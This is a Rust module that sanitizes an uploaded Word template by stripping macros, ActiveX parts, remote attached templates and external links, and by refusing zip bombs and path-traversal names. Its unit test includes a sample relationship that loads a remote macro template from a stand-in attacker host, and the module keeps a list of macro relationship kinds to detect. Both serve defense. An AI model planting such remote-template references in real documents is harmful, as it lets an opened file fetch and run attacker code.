//! A consultant's Word template (`export --format docx --template FILE.docx`) taken in as a
//! letterhead only: its styles, header, footer and page. Nothing in it may reach out or run
//! when the client opens the report: every relationship to an outside target (an attached
//! template on a remote server, a linked picture) and every macro or ActiveX part is dropped,
//! with the content types and settings that named them. Every XML part is checked first: a
//! broken template is an error before anything is written.

use std::io::{Cursor, Read};

use anyhow::{Context, Result, bail};

use crate::exchange::xml_check::well_formed;

/// The largest template read (all its parts, unpacked), and its most parts: a Word document
/// with a letterhead is far below both; a zip bomb is not.
const TEMPLATE_MAX_BYTES: u64 = 64 << 20;
const TEMPLATE_MAX_PARTS: usize = 2000;

const DOCUMENT_MAIN: &str =
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";

/// The template's parts, cleaned, in their order; `word/document.xml` among them.
pub fn read(bytes: &[u8]) -> Result<Vec<(String, Vec<u8>)>> {
    let parts = unpack(bytes)?;
    if !parts.iter().any(|(n, _)| n == "word/document.xml") {
        bail!("the template has no word/document.xml: not a Word document");
    }
    for (name, data) in &parts {
        if is_xml(name) {
            let text = std::str::from_utf8(data)
                .ok()
                .with_context(|| format!("the template's {name} is not UTF-8 XML"))?;
            if let Err(e) = well_formed(text) {
                bail!(
                    "the template's {name} is not well-formed XML ({e}): open and save it again in Word"
                );
            }
        }
    }
    let dropped: Vec<String> = parts
        .iter()
        .filter(|(n, _)| is_active(n))
        .map(|(n, _)| n.clone())
        .collect();
    let mut out = Vec::with_capacity(parts.len());
    for (name, data) in parts {
        if dropped.contains(&name) {
            continue;
        }
        let data = if name.ends_with(".rels") {
            let t = String::from_utf8_lossy(&data);
            remove_elements(&t, "Relationship", |e| reaches_out(e, &dropped)).into_bytes()
        } else if name == "[Content_Types].xml" {
            content_types(&String::from_utf8_lossy(&data), &dropped).into_bytes()
        } else if name == "word/settings.xml" {
            // Its relationship is gone; the element naming it would dangle.
            let t = String::from_utf8_lossy(&data);
            remove_elements(&t, "w:attachedTemplate", |_| true).into_bytes()
        } else {
            data
        };
        out.push((name, data));
    }
    Ok(out)
}

/// The parts Word reads as XML.
pub fn is_xml(name: &str) -> bool {
    let n = name.to_ascii_lowercase();
    n.ends_with(".xml") || n.ends_with(".rels")
}

/// Macros (`vbaProject.bin`, `vbaData.xml`), ActiveX controls and embedded binaries, and
/// ribbon customisations that call macros: code, not letterhead.
fn is_active(name: &str) -> bool {
    let n = name.to_ascii_lowercase();
    let file = n.rsplit('/').next().unwrap_or(&n);
    n.ends_with(".bin")
        || n.ends_with(".bin.rels")
        || file.starts_with("vbadata")
        || n.contains("activex")
        || n.starts_with("customui")
}

/// A relationship to outside the package, or to a part dropped, or of a macro kind. A web or
/// mail link in the letterhead (the firm's site in the footer) stays: Word follows it only
/// when clicked, and dropping it would leave the footer pointing at nothing.
fn reaches_out(element: &str, dropped: &[String]) -> bool {
    let kind = attr(element, "Type")
        .unwrap_or_default()
        .to_ascii_lowercase();
    let target = attr(element, "Target").unwrap_or_default();
    let web_link = kind.ends_with("/hyperlink")
        && ["https://", "http://", "mailto:"].iter().any(|p| {
            target
                .get(..p.len())
                .is_some_and(|t| t.eq_ignore_ascii_case(p))
        });
    let external = attr(element, "TargetMode").is_some_and(|m| m.eq_ignore_ascii_case("External"))
        && !web_link;
    let target_file = target.rsplit('/').next().unwrap_or(target);
    external
        || [
            "vbaproject",
            "activex",
            "attachedtemplate",
            "vbadata",
            "ui/extensibility",
        ]
        .iter()
        .any(|k| kind.contains(k))
        || is_active(target)
        || dropped
            .iter()
            .any(|d| d.rsplit('/').next() == Some(target_file))
}

/// The content types without the dropped parts and the `.bin` default, and a macro-enabled
/// or template main part declared as a plain document's.
fn content_types(xml: &str, dropped: &[String]) -> String {
    let t = remove_elements(xml, "Override", |e| {
        let part = attr(e, "PartName").unwrap_or_default();
        dropped.iter().any(|d| part.trim_start_matches('/') == d) || is_active(part)
    });
    let t = remove_elements(&t, "Default", |e| {
        attr(e, "Extension").is_some_and(|x| x.eq_ignore_ascii_case("bin"))
    });
    t.replace(
        "application/vnd.ms-word.document.macroEnabled.main+xml",
        DOCUMENT_MAIN,
    )
    .replace(
        "application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
        DOCUMENT_MAIN,
    )
    .replace(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml",
        DOCUMENT_MAIN,
    )
}

/// An attribute's value in an element's text (`name="v"` or `name='v'`).
pub(crate) fn attr<'a>(element: &'a str, name: &str) -> Option<&'a str> {
    let mut rest = element;
    while let Some(at) = rest.find(name) {
        let before = rest[..at].chars().next_back();
        let after = rest[at + name.len()..].trim_start();
        rest = &rest[at + name.len()..];
        if !before.is_some_and(char::is_whitespace) {
            continue;
        }
        let Some(v) = after.strip_prefix('=') else {
            continue;
        };
        let v = v.trim_start();
        let q = v.chars().next().filter(|q| matches!(q, '"' | '\''))?;
        return v[1..].find(q).map(|end| &v[1..1 + end]);
    }
    None
}

/// `xml` without the `<tag …/>` or `<tag …>…</tag>` elements `drop` picks (given each
/// element's text). The XML was checked well-formed, so tags close.
fn remove_elements(xml: &str, tag: &str, drop: impl Fn(&str) -> bool) -> String {
    let open = format!("<{tag}");
    let close = format!("</{tag}>");
    let mut out = String::with_capacity(xml.len());
    let mut rest = xml;
    while let Some(at) = rest.find(&open) {
        let after = &rest[at + open.len()..];
        if !after.starts_with(|c: char| c.is_whitespace() || c == '/' || c == '>') {
            out.push_str(&rest[..at + open.len()]);
            rest = after;
            continue;
        }
        let Some(gt) = after.find('>') else { break };
        let self_closing = after[..gt].ends_with('/');
        let len = if self_closing {
            open.len() + gt + 1
        } else {
            match rest[at..].find(&close) {
                Some(c) => c + close.len(),
                None => break,
            }
        };
        let element = &rest[at..at + len];
        out.push_str(&rest[..at]);
        if !drop(element) {
            out.push_str(element);
        }
        rest = &rest[at + len..];
    }
    out.push_str(rest);
    out
}

/// Every part of a template, refusing what is not a reasonable Word document.
fn unpack(bytes: &[u8]) -> Result<Vec<(String, Vec<u8>)>> {
    let mut z = zip::ZipArchive::new(Cursor::new(bytes))
        .context("the template is not a Word document (.docx)")?;
    if z.len() > TEMPLATE_MAX_PARTS {
        bail!(
            "the template has {} parts; a Word document has far fewer",
            z.len()
        );
    }
    let mut total = 0u64;
    let mut parts = Vec::with_capacity(z.len());
    for i in 0..z.len() {
        let mut f = z
            .by_index(i)
            .context("the template is not a readable Word document (.docx)")?;
        if f.is_dir() {
            continue;
        }
        let name = f.name()?.to_string();
        if name.contains("..") || name.starts_with('/') {
            bail!("the template holds a part named {name:?}; refused");
        }
        let mut data = Vec::new();
        let limit = TEMPLATE_MAX_BYTES - total;
        (&mut f)
            .take(limit + 1)
            .read_to_end(&mut data)
            .with_context(|| format!("reading the template's {name}"))?;
        total += data.len() as u64;
        if total > TEMPLATE_MAX_BYTES {
            bail!(
                "the template unpacks to more than {} MiB; refused",
                TEMPLATE_MAX_BYTES >> 20
            );
        }
        parts.push((name, data));
    }
    Ok(parts)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn relationships_going_out_and_macro_parts_are_removed() {
        let rels = r#"<Relationships xmlns="x"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/><Relationship Id="rId2" Type="http://x/styles" Target="styles.xml"/><Relationship Id="rId3" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>"#;
        let dropped = vec!["word/vbaProject.bin".to_string()];
        let t = remove_elements(rels, "Relationship", |e| reaches_out(e, &dropped));
        assert!(!t.contains("evil") && !t.contains("vbaProject"), "{t}");
        assert!(t.contains("styles.xml"));
        assert_eq!(well_formed(&t), Ok(()));
        let settings = "<w:settings><w:attachedTemplate r:id=\"rId1\"/><w:zoom/></w:settings>";
        assert_eq!(
            remove_elements(settings, "w:attachedTemplate", |_| true),
            "<w:settings><w:zoom/></w:settings>"
        );
    }
}
